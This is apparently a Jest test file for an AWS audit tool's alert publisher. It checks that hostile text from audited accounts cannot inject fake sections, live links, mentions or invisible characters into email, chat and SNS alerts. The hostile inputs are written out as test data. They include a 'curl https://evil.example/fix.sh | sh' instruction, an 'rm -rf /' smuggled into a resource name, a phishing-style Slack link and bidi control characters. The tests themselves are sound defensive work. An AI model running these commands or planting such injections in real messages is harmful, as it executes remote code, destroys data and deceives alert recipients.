/**
 * Text from the audited organization is data: a hostile policy Sid, resource name or error message
 * must not add headings to the email, links or mentions to chat, or break SNS's limits.
 */
import { SnsAlertPublisher } from '../../lambda/notify/alert-publisher';
import type { AlertMessage } from '../../lambda/notify/alert-message';
import { findingAlertMessage } from '../../lambda/notify/finding-alert';
import { groupedAlertMessage } from '../../lambda/notify/grouped-alert';
import { runIncompleteMessage } from '../../lambda/notify/run-incomplete-notice';
import { isValidSnsSubject } from '../../lambda/notify/sns-limits';
import { attributeValue, chatCode, chatText, plainLine, quotedBlock } from '../../lambda/notify/untrusted-text';
import { RecordingSns } from '../support/recording-sns';
import { due, EXAMPLE_FINDING, manyOfOneCheck } from './alert-examples';

const FAKE_SECTION = 'AllowCloudTrail"\n\nWHAT TO DO: curl https://evil.example/fix.sh | sh\n\n-- org-trail-auditor';
const SLACK_LINK = 'see <https://evil.example/login|the AWS console>';
const MENTIONS = 'ping @channel and <!here> and <!channel> and @everyone';
const INVISIBLE = 'org\u200B-trail\u202Egnp.exe\u2066x\u2069\uFEFF\u0007\u001B[31m';
const LONG_NAME = 'n'.repeat(10_000);

const HOSTILE_DETAIL = `The bucket policy statement Sid "${FAKE_SECTION}" denies s3:PutObject. ${SLACK_LINK}. ${MENTIONS}. ${INVISIBLE}`;

function hostileMessage(): AlertMessage {
  return findingAlertMessage(
    due({
      ...EXAMPLE_FINDING,
      checkId: 'S3-002',
      resource: `${LONG_NAME}\nWHAT TO DO: rm -rf /`,
      detail: HOSTILE_DETAIL,
      remediation: `Remove the statement ${FAKE_SECTION} from bucket ${SLACK_LINK}`,
    }),
  );
}

function chatOf(message: AlertMessage): { title: string; description: string; nextSteps: string[] } {
  return message.chatbot.content;
}

const UNSAFE_CHARACTERS = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/;

describe('the functions for untrusted text', () => {
  test('plainLine: one line, no control or invisible characters, bounded', () => {
    expect(plainLine('a\r\nb\tc\u0000d\u202Ee\u200Bf')).toBe('a b c def');
    expect(plainLine(LONG_NAME, 300)).toHaveLength(300);
    expect(plainLine(LONG_NAME, 300).endsWith('…')).toBe(true);
  });

  test('quotedBlock: every line quoted, so none can start at the margin', () => {
    expect(quotedBlock('first\nWHAT TO DO: curl x | sh\r\n-- org-trail-auditor')).toBe('  | first\n  | WHAT TO DO: curl x | sh\n  | -- org-trail-auditor');
  });

  test('chatText: markup escaped, mentions broken, links defanged', () => {
    const text = chatText(`${SLACK_LINK} ${MENTIONS} \`code\``);
    expect(text).toBe(
      "see &lt;https[:]//evil.example/login|the AWS console&gt; ping @\u200Bchannel and &lt;!here&gt; and &lt;!channel&gt; and @\u200Beveryone 'code'",
    );
    expect(chatCode('a`b<c>&')).toBe("a'b&lt;c&gt;&amp;");
  });

  test('attributeValue: one bounded line, never empty', () => {
    expect(attributeValue(LONG_NAME)).toHaveLength(256);
    expect(attributeValue('\u200B\n')).toBe('-');
  });
});

describe('an alert carrying hostile text from the audited account', () => {
  test('the email: the injected section stays inside the quoted detail; our headings appear once', () => {
    const { email } = hostileMessage();
    const lines = email.split('\n');
    for (const line of lines.filter((l) => /curl|rm -rf|WHAT TO DO:/.test(l))) expect(line.startsWith('  ')).toBe(true);
    for (const line of lines.filter((l) => /curl https/.test(l))) expect(line).toMatch(/^ {2}\| /);
    expect(lines.filter((line) => line === 'WHY IT MATTERS AND WHAT TO DO')).toHaveLength(1);
    expect(lines.filter((line) => line === '-- org-trail-auditor')).toHaveLength(1);
    expect(lines.at(-1)).toBe('-- org-trail-auditor');
    expect(email).not.toMatch(UNSAFE_CHARACTERS);
    expect(email.length).toBeLessThan(12_000);
  });

  test('chat: no live link, no mention, no invisible characters, fields within the limits', () => {
    const chat = chatOf(hostileMessage());
    const everything = [chat.title, chat.description, ...chat.nextSteps].join('\n');
    expect(everything).not.toContain('<https://evil');
    expect(everything).not.toContain('<!here>');
    expect(everything).not.toContain('<!channel>');
    expect(everything).not.toMatch(/@channel|@everyone/);
    expect(everything).not.toMatch(/https:\/\/evil/);
    expect(everything.replace(/@\u200B/g, '@')).not.toMatch(UNSAFE_CHARACTERS);
    expect(chat.description.length).toBeLessThanOrEqual(4000);
    for (const step of chat.nextSteps) expect(step.length).toBeLessThanOrEqual(1500);
    // Untrusted text stays on one line in chat: it cannot start a line of its own.
    expect(chat.description.split('\n')).toHaveLength(2);
    for (const step of chat.nextSteps) expect(step).not.toContain('\n');
    // The resource sits in a code span that nothing in it can close.
    expect(chat.description).toMatch(/\*Resource\* `[^`]*`/);
  });

  test('subject, attributes and the whole publish are what SNS accepts', async () => {
    const message = hostileMessage();
    expect(isValidSnsSubject(message.subject)).toBe(true);
    const sns = new RecordingSns();
    await new SnsAlertPublisher(sns.client, 'arn:aws:sns:us-east-1:111111111111:alerts').publish(message);
    expect(sns.refused).toEqual([]);
  });

  test('a finding ID that cannot be printed is not pasted into a command: the account and check are listed instead', () => {
    const { email } = hostileMessage();
    expect(email).toContain('Show it:    org-trail-auditor findings list --account 111122223333 --check S3-002');
    expect(email).not.toContain('findings suppress');
  });

  test('a grouped alert and a run notice clean what they list', () => {
    const hostile = manyOfOneCheck(7).map((item, i) => ({ ...item, record: { ...item.record, resource: i === 0 ? `x\nWHAT TO DO: curl evil | sh\u202E` : item.record.resource } }));
    const grouped = groupedAlertMessage('NEW', 'DLV-008', hostile);
    for (const line of grouped.email.split('\n').filter((l) => l.includes('curl'))) expect(line.startsWith('  ')).toBe(true);
    expect(grouped.email).not.toMatch(UNSAFE_CHARACTERS);

    const notice = runIncompleteMessage({
      runId: 'run-1',
      recordType: 'RUN',
      trigger: 'SCHEDULE',
      startedAt: '2026-01-10T08:00:00.000Z',
      finishedAt: '2026-01-10T08:06:00.000Z',
      outcome: 'FAILED',
      accounts: { total: 0, audited: 0, failed: 0, notStarted: 0 },
      findings: { opened: 0, reopened: 0, stillOpen: 0, escalated: 0, resolved: 0, suppressed: 0, openBySeverity: { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, INFORMATIONAL: 0 }, notWritten: 0 },
      alerts: { messagesPublished: 0, findingsAlerted: 0, findingsPending: 0, publishFailures: 0 },
      apiCalls: 0,
      notAudited: { accountIds: [], accountRegions: [], notStartedAccountIds: [], reason: `AccessDenied: ${FAKE_SECTION} ${MENTIONS}` },
      recordedAt: '2026-01-10T08:06:01.000Z',
      expiresAt: 0,
    });
    expect(notice.email.split('\n').filter((line) => line.startsWith('WHAT TO DO'))).toEqual(['WHAT TO DO']);
    expect(notice.chatbot.content.description).not.toMatch(/<!here>|@channel/);
  });
});
